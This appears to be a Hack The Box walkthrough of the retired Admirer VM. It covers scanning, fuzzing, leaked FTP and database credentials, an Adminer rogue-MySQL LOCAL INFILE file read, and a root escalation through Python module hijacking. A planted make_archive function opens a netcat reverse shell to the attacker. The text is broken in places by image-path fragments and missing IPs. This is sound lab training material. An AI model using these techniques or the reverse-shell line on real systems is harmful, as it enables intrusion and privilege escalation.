This post documents the complete walkthrough of Admirer, a retired vulnerable VM created by GibParadox and polarbearer, and hosted at Hack The Box. If you are uncomfortable with spoilers, please stop reading now.

On this post


Admirer is a retired vulnerable VM from Hack The Box.

Information Gathering

Let’s start with a masscan probe to establish the open ports in the host.

# masscan -e tun0 -p1-65535,U:1-65535 --rate=500

Starting masscan 1.0.5 ( at 2020-05-04 02:44:13 GMT-- forced options: -sS -Pn -n --randomize-hosts -v --send-eth
Initiating SYN Stealth Scan
Scanning 1 hosts [131070 ports/host]
Discovered open port 80/tcp on
Discovered open port 21/tcp on
Discovered open port 22/tcp on

Pretty common list of open ports. Let’s do one better with nmap scanning the discovered ports to establish their services.

# nmap -n -v -Pn -p21,22,80 -A --reason -oN nmap.txt
21/tcp open  ftp     syn-ack ttl 63 vsftpd 3.0.3
22/tcp open  ssh     syn-ack ttl 63 OpenSSH 7.4p1 Debian 10+deb9u7 (protocol 2.0)
| ssh-hostkey:
|   2048 4a:71:e9:21:63:69:9d:cb:dd:84:02:1a:23:97:e1:b9 (RSA)
|   256 c5:95:b6:21:4d:46:a4:25:55:7a:87:3e:19:a8:e7:02 (ECDSA)
|_  256 d0:2d:dd:d0:5c:42:f8:7b:31:5a:be:57:c4:a9:a7:56 (ED25519)
80/tcp open  http    syn-ack ttl 63 Apache httpd 2.4.25 ((Debian))
| http-methods:
|_  Supported Methods: GET HEAD POSTOPTIONS
| http-robots.txt: 1 disallowed entry
|_http-server-header: Apache/2.4.25 (Debian)
|_http-title: Admirer

Looks like http is the way to go. Here’s what the site looks like.

Visually stunning!

Checking out robots.txt

Notice that robots.txt is available from the nmap scan?

I guess it’s telling me to fuzz the /admin-dir directory.

Directory/File Enumeration

Let’s do that with gobuster.

# gobuster dir -w /usr/share/seclists/Discovery/Web-Content/raft-small-directories-lowercase.txt -t 20 -e -s '200,301,302' -x php,txt -u http://10.10.1
Gobuster v3.0.1
by OJ Reeves (@TheColonial) & Christian Mehlmauer (@_FireFart_)
[+] Url:
[+] Threads:        20
[+] Wordlist:       /usr/share/seclists/Discovery/Web-Content/raft-small-directories-lowercase.txt
[+] Status codes:   200,301,302
[+] User Agent:     gobuster/3.0.1
[+] Extensions:     php,txt
[+] Expanded:       true
[+] Timeout:        10s
2020/05/04 03:46:31 Starting gobuster
=== (Status: 200) (Status: 200)
2020/05/04 03:55:03 Finished

What do we have here? Contacts.

And here? Credentials.

Snooping in FTP

Let’s see if we can access the FTP service with this credential (ftpuser:%n?4Wz}R$tTF7).html.tar.gz appears to be the backup archive of the site. Look what I found in index.php.

    $servername = "localhost";
    $username = "waldo";
    $password = ']F7jLHw:*G>UPrTo}~A"d6b';
    $dbname = "admirerdb";

    // Create connection
    $conn = new mysqli($servername, $username, $password, $dbname);
    // Check connection
    if ($conn->connect_error) {
        die("Connection failed: " . $conn->connect_error);

    $sql = "SELECT * FROM items";
    $result = $conn->query($sql);

    if ($result->num_rows > 0) {
        // output data of each row
        while($row = $result->fetch_assoc()) {
            echo "<article class='thumb'>";
    echo "<a href='".$row["image_path"]."' class='image'><img src='".$row["thumb_path"]."' alt='' /></a>";
    echo "<h2>".$row["title"]."</h2>";
    echo "<p>".$row["text"]."</p>";
    echo "</article>";} else {
        echo "0 results";

Hail Hydra

Now that we have so many passwords, one of them got to work for waldo’s SSH account right? In my opinion, there’s no better tool than hydra to test for passwordvalidity.

Bummer. No password for waldo and ftpuser has no shell.

Directory/File Enumeration (2)

Back to the drawing board of enumeration. This time I’m going to focus in the /utility-scripts directory since we know that it exists from the html backup.

# wfuzz -w /usr/share/seclists/Discovery/Web-Content/quickhits.txt -t 20 --hc '403,404'
* Wfuzz 2.4.5 - The Web Fuzzer                         *

Total requests: 2439

ID           Response   Lines    Word     Chars       Payload

000000593:   200        51 L     235 W    4156 Ch     "/adminer.php"
000001402:   200        964 L    4976 W   84072 Ch    "/info.php"

Total time: 45.38395
Processed Requests: 2439
Filtered Requests: 2437
Requests/sec.: 53.74145

Hmm. What is adminer.php?

Adminer previously known as phpMinAdmin

According to Wikipedia,

Adminer is a tool for managing content in MySQL databases. Adminer is distributed under Apache license in a form of a single PHP file. Its author is Jakub Vrána who started to develop this tool as a light-weight alternative to phpMyAdmin, in July 2007.

Any version of Adminer below 4.6.3 is susceptible to this vulnerability. We can instruct Adminer to connect to a MySQL databaseserver on my attacking machine and abuse MySQL LOCAL INFILE to read files from the machine.

Setting up MySQL/MariaDB

Edit /etc/mysql/mariadb.conf.d/50-server.cnf to bind MySQL to your HTB IP address.

# Instead of skip-networking the default is now to listen only on
# localhost which is more compatible and is not less secure.
# bind-address           =
bind-address             =

Start the server like so.

# systemctl start mysql

Create a database and a user, and then grant permissions to that database.

Once that’s done, we can connect to it with Adminer.

And bam, we’re in!


From here on, I’ll use Adminer to create a table with one column. This is to populate the table with files that I’ve read.

Now, let’s read some files.Meanwhile back at our attacking machine.

MariaDB [admirer]> select * from files;
|content                                                        |
|            $servername = "localhost";                          |
|            $username = "waldo";                                |
|            $password = "&<h5b~yK3F#{PaPB&dA}{H>";              |
|            $dbname = "admirerdb";                              |

I think we have waldo’s SSH password.

Low-Privilege Shell

With that, we can log on to waldo’s SSH account.

The file user.txt is at waldo’s home directory.

Privilege Escalation

During enumeration of waldo’s account, I notice that waldo is able to sudo the following.

That tells me that I can do something like this.

$ sudo ENV=some_value /opt/script/

And that ENV will be taken into account when is ran with sudo, i.e. as root. Notice that in/opt/scripts there’s a Python script
from shutil import make_archive

src = '/var/www/html/'

# old ftp directory, not used anymore
#dst = '/srv/ftp/html'

dst = '/var/backups/html'

make_archive(dst, 'gztar', src)

The script is further referenced in

So, if I hijack the Python search path for Python shutil module’s make_archive function with something of my own, I can perform a privilegeescalation! Here’s my

import os

def make_archive(a, b, c):
  os.system("/bin/nc 1234 -e /bin/bash")

Needless to say, I’ve set up a netcat listener on my attacking machine to catch the reverse shell.

Bombs away…

With that, it’s trivial to retrieve root.txt.